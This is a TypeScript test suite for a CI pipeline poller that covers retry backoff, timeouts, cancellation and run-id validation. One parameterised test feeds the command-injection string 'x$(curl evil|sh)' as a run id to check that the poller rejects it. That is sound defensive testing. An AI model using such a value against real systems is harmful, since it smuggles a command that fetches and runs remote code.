import type { Answer } from '../../src/codearts/answer.js'
import { parseV3Status } from '../../src/codearts/v3.js'
import {
  backoffMs,
  requestTimeoutMs,
  waitForRun,
  type WaitOptions,
  type WaitResult
} from '../../src/poller.js'

// --- answers -------------------------------------------------------------------------------------

function status(runId: string | null, state: string | null, outcome: string | null = null): Answer {
  return {
    kind: 'ok',
    body: {
      pipeline_id: 'p1',
      pipeline_name: 'web',
      build_id: runId,
      status: state,
      outcome,
      states: [{ id: 's1', name: 'Build', type: 'stage', status: state, outcome, children: [] }]
    }
  }
}
const running = (id = '7'): Answer => status(id, 'running')
const succeeded = (id = '7'): Answer => status(id, 'completed', 'success')
const neverRan = (): Answer => status(null, null)
const transient = (reason = 'HTTP 503', retryAfterMs?: number): Answer =>
  retryAfterMs === undefined
    ? { kind: 'transient', reason }
    : { kind: 'transient', reason, retryAfterMs }

// --- a virtual clock and a scripted API ----------------------------------------------------------

interface Call {
  runId: string | undefined
  timeoutMs: number
  at: number
}

type Step = Answer | ((call: Call) => Answer)

/**
 * Runs waitForRun against `script` (one step per call; the last step repeats) on a virtual clock:
 * sleep() advances it, nothing else does unless a step does so itself via `clock`.
 */
async function run(
  script: Step[],
  options: Partial<WaitOptions> & { fetchMs?: number } = {}
): Promise<{
  result: WaitResult
  calls: Call[]
  sleeps: number[]
  info: string[]
  warnings: string[]
  elapsed: number
}> {
  const start = 1_700_000_000_000
  let now = start
  const calls: Call[] = []
  const sleeps: number[] = []
  const info: string[] = []
  const warnings: string[] = []
  const { fetchMs = 0, ...rest } = options
  let guard = 0
  const result = await waitForRun({
    runId: undefined,
    timeoutMs: 60_000,
    pollIntervalMs: 1_000,
    parse: parseV3Status,
    random: () => 1,
    log: { info: l => info.push(l), debug: () => undefined, warning: l => warnings.push(l) },
    now: () => now,
    sleep: async ms => {
      expect(ms).toBeGreaterThanOrEqual(0)
      sleeps.push(ms)
      now += ms
    },
    fetchStatus: async (runId, timeoutMs) => {
      if (++guard > 10_000) throw new Error('runaway loop')
      const call = { runId, timeoutMs, at: now - start }
      calls.push(call)
      // A slow request: it takes fetchMs, but never longer than the timeout it was given.
      now += Math.min(fetchMs, timeoutMs)
      const step = script[Math.min(calls.length - 1, script.length - 1)]!
      return typeof step === 'function' ? step(call) : step
    },
    ...rest
  })
  return { result, calls, sleeps, info, warnings, elapsed: now - start }
}

// --- waitForRun ----------------------------------------------------------------------------------

describe('waitForRun', () => {
  it('completes once the run completes, polling at the interval meanwhile', async () => {
    const { result, calls, sleeps, warnings } = await run([running(), running(), succeeded()], {
      pollIntervalMs: 5_000
    })
    expect(result.kind).toBe('completed')
    expect(result.run?.runId).toBe('7')
    expect(result.run?.outcome).toBe('success')
    expect(calls).toHaveLength(3)
    expect(sleeps).toEqual([5_000, 5_000])
    expect(warnings).toEqual([])
  })

  it('completes at once when the first answer is already final', async () => {
    const { result, calls, sleeps } = await run([status('7', 'completed', 'error')])
    expect(result).toMatchObject({ kind: 'completed', run: { outcome: 'error' } })
    expect(calls).toHaveLength(1)
    expect(sleeps).toEqual([])
  })

  it('asks for the latest run first, then sticks to the run id it saw', async () => {
    const { calls } = await run([running('7'), running('7'), succeeded('7')])
    expect(calls.map(c => c.runId)).toEqual([undefined, '7', '7'])
  })

  it('asks for the given run id from the start', async () => {
    const { calls, result } = await run([running('99'), succeeded('99')], { runId: '99' })
    expect(calls.map(c => c.runId)).toEqual(['99', '99'])
    expect(result.kind).toBe('completed')
  })

  it('treats an answer about another run as a transient problem, not as success', async () => {
    const { result, calls, warnings } = await run([running('7'), succeeded('8'), succeeded('7')])
    expect(calls).toHaveLength(3)
    expect(result).toMatchObject({ kind: 'completed', run: { runId: '7' } })
    expect(warnings).toHaveLength(1)
    expect(warnings[0]).toContain('8')
  })

  it('never reports success for another run than the one asked for', async () => {
    const { result } = await run([succeeded('8')], { runId: '7', timeoutMs: 10_000 })
    expect(result.kind).toBe('timed_out')
    expect(result.kind === 'timed_out' && result.lastProblem).toContain('run 8')
    expect(result.run).toBeNull()
  })

  it.each(['x$(curl evil|sh)', 'a b', 'r'.repeat(129)])(
    'never takes up a run named %j, which is not an id, and never ends on it',
    async id => {
      const { result, calls, warnings } = await run([succeeded(id)], { timeoutMs: 5_000 })
      expect(result.kind).toBe('timed_out')
      expect(result.run).toBeNull()
      expect(calls.every(c => c.runId === undefined)).toBe(true)
      expect(warnings[0]).toContain('which is not a run id')
    }
  )

  it('treats a given run id answered with "no run" as a problem', async () => {
    const { result } = await run([neverRan()], { runId: '7', timeoutMs: 5_000 })
    expect(result.kind).toBe('timed_out')
    expect(result.kind === 'timed_out' && result.lastProblem).toBeDefined()
  })

  it('treats a body that is not an object as a transient problem', async () => {
    const { result, warnings } = await run([{ kind: 'ok', body: [] }, running(), succeeded()])
    expect(result.kind).toBe('completed')
    expect(warnings).toHaveLength(1)
    expect(warnings[0]).toContain('not a JSON object')
  })

  it('never ends on a completed answer that names no run', async () => {
    const { result, calls } = await run([status(null, 'completed', 'success')], {
      timeoutMs: 5_000
    })
    expect(result.kind).toBe('timed_out')
    expect(calls.length).toBeGreaterThan(1)
    expect(calls.every(c => c.runId === undefined)).toBe(true)
  })

  it('warns when the latest run had already completed when the wait began', async () => {
    const stale = await run([succeeded()])
    expect(stale.result.kind).toBe('completed')
    expect(stale.warnings).toHaveLength(1)
    expect(stale.warnings[0]).toContain('already completed')
    // Not when the user named the run, nor when the wait saw the run running first.
    expect((await run([succeeded()], { runId: '7' })).warnings).toEqual([])
    expect((await run([running(), succeeded()])).warnings).toEqual([])
    // Nor when the pipeline had no run at first and the run was seen only once it was over.
    expect((await run([neverRan(), succeeded()])).warnings).toEqual([])
  })

  it('retries transient errors with growing backoff, and resets it after a success', async () => {
    const { result, sleeps, warnings } = await run(
      [transient(), transient(), transient(), transient(), running(), transient(), succeeded()],
      { pollIntervalMs: 1_000, random: () => 0 }
    )
    expect(result.kind).toBe('completed')
    // 4 failures doubling from the interval, a normal poll, then the first step of backoff again.
    expect(sleeps).toEqual([1_000, 2_000, 4_000, 8_000, 1_000, 1_000])
    expect(warnings.map(w => /attempt (\d+)/.exec(w)?.[1])).toEqual(['1', '2', '3', '4', '1'])
  })

  it('keeps each backoff step larger than the one before, whatever the jitter', async () => {
    const { sleeps } = await run(
      [transient(), transient(), transient(), transient(), transient(), succeeded()],
      { pollIntervalMs: 1_000, random: () => 1 }
    )
    // Half again at most, so the next step (double) is still longer.
    expect(sleeps).toEqual([1_500, 3_000, 6_000, 12_000, 24_000])
  })

  it('caps the backoff at a minute', async () => {
    const script: Step[] = Array.from({ length: 12 }, () => transient())
    const { sleeps } = await run([...script, succeeded()], {
      pollIntervalMs: 1_000,
      timeoutMs: 3_600_000
    })
    expect(Math.max(...sleeps)).toBe(60_000)
    expect(sleeps.slice(-3)).toEqual([60_000, 60_000, 60_000])
  })

  it('honours Retry-After', async () => {
    const { sleeps, result } = await run([transient('HTTP 429', 45_000), succeeded()], {
      pollIntervalMs: 1_000
    })
    expect(result.kind).toBe('completed')
    expect(sleeps).toHaveLength(1)
    expect(sleeps[0]).toBeGreaterThanOrEqual(45_000)
  })

  it('does not wait for a Retry-After beyond the deadline', async () => {
    const { result, elapsed } = await run([transient('HTTP 429', 3_600_000)], {
      timeoutMs: 20_000
    })
    expect(result.kind).toBe('timed_out')
    expect(elapsed).toBe(20_000)
  })

  it('ends at once with "failed" on a fatal answer', async () => {
    const { result, calls, sleeps } = await run([
      { kind: 'fatal', reason: 'HTTP 401: the token is expired' },
      succeeded()
    ])
    expect(result).toEqual({ kind: 'failed', reason: 'HTTP 401: the token is expired', run: null })
    expect(calls).toHaveLength(1)
    expect(sleeps).toEqual([])
  })

  it('keeps the last run seen when a fatal answer ends the wait', async () => {
    const { result } = await run([running(), { kind: 'fatal', reason: 'HTTP 403' }])
    expect(result).toMatchObject({ kind: 'failed', run: { runId: '7', status: 'running' } })
  })

  it('times out with the last run seen', async () => {
    const { result, elapsed } = await run([running()], { timeoutMs: 30_000, pollIntervalMs: 7_000 })
    expect(result.kind).toBe('timed_out')
    expect(result.run).toMatchObject({ runId: '7', status: 'running' })
    expect(result.kind === 'timed_out' && result.lastProblem).toBeUndefined()
    expect(elapsed).toBe(30_000)
  })

  it('times out with the last problem and the last run before it', async () => {
    const { result } = await run([running(), transient('HTTP 502 (gateway)')], {
      timeoutMs: 30_000
    })
    expect(result).toMatchObject({
      kind: 'timed_out',
      run: { runId: '7' },
      lastProblem: 'HTTP 502 (gateway)'
    })
  })

  it('forgets the last problem once a later poll succeeds', async () => {
    const { result } = await run([transient('HTTP 500'), running()], { timeoutMs: 30_000 })
    expect(result).toMatchObject({ kind: 'timed_out', run: { runId: '7' } })
    expect(result.kind === 'timed_out' && result.lastProblem).toBeUndefined()
  })

  it.each([
    ['running answers', [running()], 0],
    ['transient errors', [transient()], 0],
    ['Retry-After', [transient('x', 50_000)], 0],
    ['slow requests', [running()], 25_000],
    ['slow failing requests', [transient()], 9_999]
  ])('never runs past the timeout (%s)', async (_what, script, fetchMs) => {
    for (const [timeoutMs, pollIntervalMs] of [
      [10_000, 3_000],
      [61_000, 10_000],
      [1_000, 10_000],
      [100_000, 1_000]
    ] as const) {
      const { result, elapsed, calls } = await run(script as Step[], {
        timeoutMs,
        pollIntervalMs,
        fetchMs
      })
      expect(result.kind).toBe('timed_out')
      expect(elapsed).toBeLessThanOrEqual(timeoutMs)
      expect(calls.length).toBeGreaterThanOrEqual(1)
    }
  })

  it('gives each request min(requestTimeoutMs(interval), remaining time)', async () => {
    const { calls } = await run([running()], { timeoutMs: 5_000, pollIntervalMs: 1_000 })
    expect(calls.map(c => c.at)).toEqual([0, 1_000, 2_000, 3_000, 4_000])
    for (const call of calls) {
      expect(call.timeoutMs).toBe(Math.min(requestTimeoutMs(1_000), 5_000 - call.at))
    }
    expect(calls.map(c => c.timeoutMs)).toEqual([3_000, 3_000, 3_000, 2_000, 1_000])
  })

  it('never gives a request more time than the wait has left, slow requests included', async () => {
    // Each request hangs until its own timeout (15 s for a 5 s interval).
    const { calls, elapsed } = await run([running()], {
      timeoutMs: 45_000,
      pollIntervalMs: 5_000,
      fetchMs: 3_600_000
    })
    expect(calls.map(c => [c.at, c.timeoutMs])).toEqual([
      [0, 15_000],
      [20_000, 15_000],
      [40_000, 5_000]
    ])
    expect(elapsed).toBe(45_000)
  })

  it('warns about an undocumented status exactly once, and keeps waiting', async () => {
    const paused = status('7', 'paused')
    const { result, warnings, calls } = await run([paused, paused, paused, succeeded()])
    expect(result.kind).toBe('completed')
    expect(calls).toHaveLength(4)
    expect(warnings).toHaveLength(1)
    expect(warnings[0]).toContain('paused')
  })

  it('warns once per distinct undocumented status, never for documented ones', async () => {
    const { warnings } = await run([
      status('7', 'waiting'),
      status('7', 'paused'),
      status('7', 'verifying'),
      status('7', 'held'),
      status('7', 'suspending'),
      status('7', 'paused'),
      succeeded()
    ])
    expect(warnings).toHaveLength(2)
    expect(warnings[0]).toContain('"paused"')
    expect(warnings[1]).toContain('"held"')
  })

  it('keeps waiting while the pipeline has never run, saying so once', async () => {
    const { result, info, calls, warnings } = await run([
      neverRan(),
      neverRan(),
      neverRan(),
      running('12'),
      succeeded('12')
    ])
    expect(result).toMatchObject({ kind: 'completed', run: { runId: '12' } })
    expect(calls.map(c => c.runId)).toEqual([undefined, undefined, undefined, undefined, '12'])
    expect(info.filter(l => /no run yet/.test(l))).toHaveLength(1)
    expect(warnings).toEqual([])
  })

  it('times out on a pipeline that never runs, reporting no run', async () => {
    const { result } = await run([neverRan()], { timeoutMs: 10_000 })
    expect(result.kind).toBe('timed_out')
    expect(result.run?.runId).toBeNull()
  })

  it('logs progress only when something changes', async () => {
    const { info } = await run([running(), running(), running(), succeeded()])
    expect(info.filter(l => l.startsWith('Run 7'))).toEqual([
      'Run 7: running',
      'Run 7: completed (success)'
    ])
  })
})

// --- backoffMs / requestTimeoutMs ----------------------------------------------------------------

describe('backoffMs', () => {
  const one = (): number => 1
  const zero = (): number => 0

  it('doubles from the poll interval', () => {
    expect([1, 2, 3, 4, 5].map(n => backoffMs(n, 1_000, zero))).toEqual([
      1_000, 2_000, 4_000, 8_000, 16_000
    ])
  })

  it('adds up to half a step of jitter, never retrying sooner than a normal poll', () => {
    expect(backoffMs(1, 1_000, zero)).toBe(1_000)
    expect(backoffMs(3, 1_000, () => 0.5)).toBe(5_000)
    expect(backoffMs(3, 1_000, one)).toBe(6_000)
    for (let i = 0; i < 50; i++) {
      const d = backoffMs(3, 1_000, Math.random)
      expect(d).toBeGreaterThanOrEqual(4_000)
      expect(d).toBeLessThanOrEqual(6_000)
    }
  })

  it('caps at a minute, or at the poll interval when that is longer', () => {
    expect(backoffMs(10, 1_000, one)).toBe(60_000)
    expect(backoffMs(6, 1_000, one)).toBe(48_000)
    expect(backoffMs(7, 1_000, zero)).toBe(60_000)
    expect(backoffMs(1, 120_000, one)).toBe(120_000)
    expect(backoffMs(5, 120_000, one)).toBe(120_000)
  })

  it('stays finite for huge failure counts', () => {
    expect(backoffMs(10_000, 1_000, one)).toBe(60_000)
    expect(Number.isFinite(backoffMs(Number.MAX_SAFE_INTEGER, 1_000, one))).toBe(true)
  })

  it('waits at least Retry-After, and ignores a shorter one', () => {
    expect(backoffMs(1, 1_000, zero, 30_000)).toBe(30_000)
    expect(backoffMs(4, 1_000, zero, 10)).toBe(8_000)
    expect(backoffMs(1, 1_000, zero, 0)).toBe(1_000)
  })
})

describe('requestTimeoutMs', () => {
  it.each([
    [1, 2_000],
    [500, 2_000],
    [1_000, 3_000],
    [5_000, 15_000],
    [10_000, 30_000],
    [600_000, 30_000]
  ])('gives an interval of %d ms requests of %d ms', (interval, expected) => {
    expect(requestTimeoutMs(interval)).toBe(expected)
  })
})

describe('waitForRun cancellation and onRun', () => {
  const quiet = { info: () => undefined, debug: () => undefined, warning: () => undefined }
  const never = <T>(): Promise<T> => new Promise<T>(() => undefined)

  it('ends at once with cancelled when the signal aborts during a request', async () => {
    const controller = new AbortController()
    let calls = 0
    const result = await waitForRun({
      runId: undefined,
      timeoutMs: 60_000,
      pollIntervalMs: 1_000,
      parse: parseV3Status,
      log: quiet,
      signal: controller.signal,
      sleep: async () => undefined,
      fetchStatus: async () => {
        calls += 1
        if (calls === 1) return running('r-1')
        setTimeout(() => controller.abort(), 5)
        return never<Answer>()
      }
    })
    expect(result.kind).toBe('cancelled')
    expect(result.run?.runId).toBe('r-1')
    expect(calls).toBe(2)
  })

  it('ends at once with cancelled when the signal aborts during the sleep between polls', async () => {
    const controller = new AbortController()
    let calls = 0
    const result = await waitForRun({
      runId: 'r-2',
      timeoutMs: 60_000,
      pollIntervalMs: 1_000,
      parse: parseV3Status,
      log: quiet,
      signal: controller.signal,
      sleep: () => {
        setTimeout(() => controller.abort(), 5)
        return never<void>()
      },
      fetchStatus: async () => {
        calls += 1
        return running('r-2')
      }
    })
    expect(result).toMatchObject({ kind: 'cancelled', run: { runId: 'r-2' } })
    expect(calls).toBe(1)
  })

  it('makes no request when the signal has already aborted', async () => {
    const controller = new AbortController()
    controller.abort()
    let calls = 0
    const result = await waitForRun({
      runId: undefined,
      timeoutMs: 60_000,
      pollIntervalMs: 1_000,
      parse: parseV3Status,
      log: quiet,
      signal: controller.signal,
      fetchStatus: async () => {
        calls += 1
        return running()
      }
    })
    expect(result).toEqual({ kind: 'cancelled', run: null })
    expect(calls).toBe(0)
  })

  it('calls onRun with every usable answer that names a run, and never with one that does not', async () => {
    const seen: (string | null)[] = []
    const { result } = await run(
      [neverRan(), transient(), running('9'), running('9'), succeeded('9')],
      {
        onRun: r => seen.push(r.runId)
      }
    )
    expect(result.kind).toBe('completed')
    expect(seen).toEqual(['9', '9', '9'])
  })
})

describe('waitForRun on an endpoint that looks wrong', () => {
  const refused: Answer = {
    kind: 'transient',
    reason: 'ECONNREFUSED: connect',
    notSent: true,
    misconfigured: 'nothing accepts connections there: check the endpoint (or region) input'
  }

  it('ends after three such failures, with the hint, long before the timeout', async () => {
    const { result, calls, elapsed } = await run([refused], {
      timeoutMs: 3_600_000,
      pollIntervalMs: 10_000
    })
    expect(result.kind).toBe('failed')
    expect(result.kind === 'failed' && result.reason).toContain('(3 tries)')
    expect(result.kind === 'failed' && result.reason).toContain('check the endpoint')
    expect(calls).toHaveLength(3)
    expect(elapsed).toBeLessThan(60_000)
  })

  it('retries the same failures as faults once the API has answered', async () => {
    const { result, calls } = await run(
      [running(), refused, refused, refused, refused, succeeded()],
      { timeoutMs: 3_600_000, pollIntervalMs: 1_000 }
    )
    expect(result.kind).toBe('completed')
    expect(calls).toHaveLength(6)
  })

  it('does not count a failure without a hint (a busy endpoint)', async () => {
    const { result } = await run(
      [transient('ECONNRESET'), transient('ECONNRESET'), transient('ECONNRESET'), succeeded()],
      { timeoutMs: 3_600_000 }
    )
    expect(result.kind).toBe('completed')
  })
})
